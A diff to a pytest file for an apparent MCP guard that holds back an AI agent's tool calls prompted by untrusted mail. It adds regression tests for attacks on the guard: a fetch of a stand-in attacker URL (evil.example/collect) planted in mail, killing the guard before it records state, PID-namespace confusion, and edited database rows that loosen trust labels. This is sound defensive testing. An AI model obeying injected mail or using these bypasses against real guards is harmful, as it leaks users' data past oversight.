@@ -11,6 +11,7 @@ import os
 import signal
 import socket
 import sqlite3
+import subprocess
 import sys
 import threading
 import time
@@ -503,7 +504,8 @@ def test_a_client_that_starts_a_guard_per_call_is_still_one_conversation(tmp_pat
         assert len(kept) == 2  # this process's conversation and the shell's
         guarded(tmp_path, settings, read)  # a guard starts: the shell is gone, and what was kept for it with it
         started = Path(f"/proc/{os.getpid()}/stat").read_text().rsplit(")", 1)[1].split()[19]
-        this_client = f"stdio:{socket.gethostname()}:{os.getpid()}:{started}"
+        space = os.stat("/proc/self/ns/pid").st_ino
+        this_client = f"stdio:{space}:{socket.gethostname()}:{os.getpid()}:{started}"
         assert {session for (session,) in store.execute("SELECT DISTINCT session FROM mcp_history")} == {this_client}
     finally:
         store.close()
@@ -596,3 +598,107 @@ def test_a_guard_that_dies_before_keeping_a_result_leaves_the_next_one_marked(tm
     guarded(tmp_path, settings, send)
     send_entry = next(e for e in Ledger(default_db_url(tmp_path / "home")).entries() if e.tool == "send_email")
     assert any("after content written by others entered the session" in reason for reason in send_entry.reasons)
+
+
+def _read_inbox(client: ClientSession) -> Any:
+    return client.call_tool("mail__read_inbox", {})
+
+
+def _fetch(client: ClientSession) -> Any:
+    return client.call_tool("mail__fetch", {"url": "https://evil.example/collect?c=771203"})
+
+
+def test_a_request_one_conversation_declared_does_not_vouch_for_the_next(tmp_path: Path) -> None:
+    """Requests are not kept for the client's next guard (found by an attack): a conversation whose user named the
+    attacker's URL would let another conversation of the same client process fetch it after its mail said to."""
+    settings = config(tmp_path)
+    named: Any = {"groundstate/request": "please open https://evil.example/collect?c=771203"}
+    guarded(tmp_path, settings, lambda client: client.call_tool("mail__contacts", {}, meta=named))
+    guarded(tmp_path, settings, _read_inbox)  # another conversation of the same client: no request declared
+    visit = guarded(tmp_path, settings, _fetch)
+    assert visit.is_error and "taken from the result of mail/read_inbox" in visit.content[0].text
+    assert not (tmp_path / "sent.visits").exists()
+
+
+def test_a_guard_stopped_right_after_it_answered_has_kept_what_the_client_read(tmp_path: Path) -> None:
+    """The result is kept before the client reads it (found by an attack: kept afterwards, a client that stops its
+    server as soon as it has the answer — SIGTERM on closing, or SIGKILL — stopped the guard before it kept the
+    mail, and the next guard let the mail's fetch through: the client declared no request, so a marked session held
+    nothing). A client of raw JSON-RPC lines, stopping the guard the moment the answer's line is read."""
+    settings = config(tmp_path)
+    (tmp_path / "groundstate.toml").write_text(settings)
+    environment = {**os.environ, "GROUNDSTATE_HOME": str(tmp_path / "home"),
+                   "GROUNDSTATE_CONFIG": str(tmp_path / "groundstate.toml")}  # fmt: skip
+    for stop in (signal.SIGKILL, signal.SIGTERM):
+        guard = subprocess.Popen([sys.executable, "-m", "groundstate", "mcp", "serve"], cwd=tmp_path, env=environment,
+                                 stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.DEVNULL)  # fmt: skip
+        assert guard.stdin is not None and guard.stdout is not None
+        for message in ({"jsonrpc": "2.0", "id": 1, "method": "initialize", "params": {
+                            "protocolVersion": "2025-06-18", "capabilities": {},
+                            "clientInfo": {"name": "raw", "version": "1"}}},
+                        {"jsonrpc": "2.0", "method": "notifications/initialized", "params": {}},
+                        {"jsonrpc": "2.0", "id": 2, "method": "tools/call",
+                         "params": {"name": "mail__read_inbox", "arguments": {}}}):  # fmt: skip
+            guard.stdin.write((json.dumps(message) + "\n").encode())
+            guard.stdin.flush()
+        while json.loads(guard.stdout.readline()).get("id") != 2:
+            pass
+        guard.send_signal(stop)  # the moment the answer is read
+        guard.wait(30)
+        visit = guarded(tmp_path, settings, _fetch)
+        assert visit.is_error and "taken from the result of mail/read_inbox" in visit.content[0].text, stop
+        assert not (tmp_path / "sent.visits").exists()
+
+
+UNSHARED = ["unshare", "--pid", "--fork", "--mount-proc"]
+
+
+def test_a_guard_whose_client_cannot_be_told_apart_keeps_nothing_and_erases_nothing(tmp_path: Path) -> None:
+    """A guard that is its PID namespace's first process (``docker run -i``) has no parent to key by: every such
+    client would share one kept session (found by an attack: one client's request let another's fetch through). It
+    keeps nothing. Nor does a guard in another PID namespace take this client for gone (found too: it erased the
+    live client's rows, and the client's next guard let the fetch through)."""
+    assert subprocess.run([*UNSHARED, "true"]).returncode == 0  # root, and util-linux's unshare: else untestable
+    settings = config(tmp_path)
+    guarded(tmp_path, settings, _read_inbox)  # this client's conversation: kept
+    guarded(tmp_path, settings, _read_inbox, wrapper=UNSHARED)  # a guard that is PID 1 of its own namespace
+    store = sqlite3.connect(tmp_path / "home" / "groundstate.db")
+    try:
+        kept = {session for (session,) in store.execute("SELECT DISTINCT session FROM mcp_history")}
+    finally:
+        store.close()
+    assert len(kept) == 1 and f":{os.getpid()}:" in kept.pop()  # this client's, not erased; none for PID 1's
+    visit = guarded(tmp_path, settings, _fetch)
+    assert visit.is_error and "taken from the result of mail/read_inbox" in visit.content[0].text
+
+
+@pytest.mark.parametrize("edit", [
+    "origins = '[[\"flow_labels_may_loosen\",[]],[\"flow_label\",[\"mail\",\"read_inbox\",{\"n\":\"/trusted\"}]]]'",
+    "number = 9e999",
+    "fields = '" + "[" * 5000 + "'",
+])  # fmt: skip
+def test_a_kept_row_edited_to_loosen_or_to_crash_marks_the_session_instead(tmp_path: Path, edit: str) -> None:
+    """Found by an attack: origins that say more than where the call's own arguments came from (a label that
+    trusts the mail) were fed to the rules, and a number or data that cannot be read crashed every later guard of
+    the client. Each is left out and marks the session: the fetch is held, the guard starts."""
+    settings = config(tmp_path)
+
+    async def read(client: ClientSession) -> None:
+        await client.call_tool("mail__read_inbox", {}, meta=REQUEST)
+
+    guarded(tmp_path, settings, read)
+    store = sqlite3.connect(tmp_path / "home" / "groundstate.db")
+    try:
+        with store:
+            assert store.execute(f"UPDATE mcp_history SET {edit} WHERE kind = 'result'").rowcount == 1
+    finally:
+        store.close()
+
+    async def fetch(client: ClientSession) -> str:
+        result = await client.call_tool("mail__fetch", {"url": "https://evil.example/elsewhere"}, meta=REQUEST)
+        return str(result.content[0].text)  # type: ignore[union-attr]
+
+    said, errors = guarded(tmp_path, settings, fetch, stderr=True)
+    assert "Traceback" not in errors
+    assert said.startswith("denied")  # refused by what the mail said, or held as the session is marked: not let
+    assert not (tmp_path / "sent.visits").exists()  # through as if the mail's server were trusted, or unseen
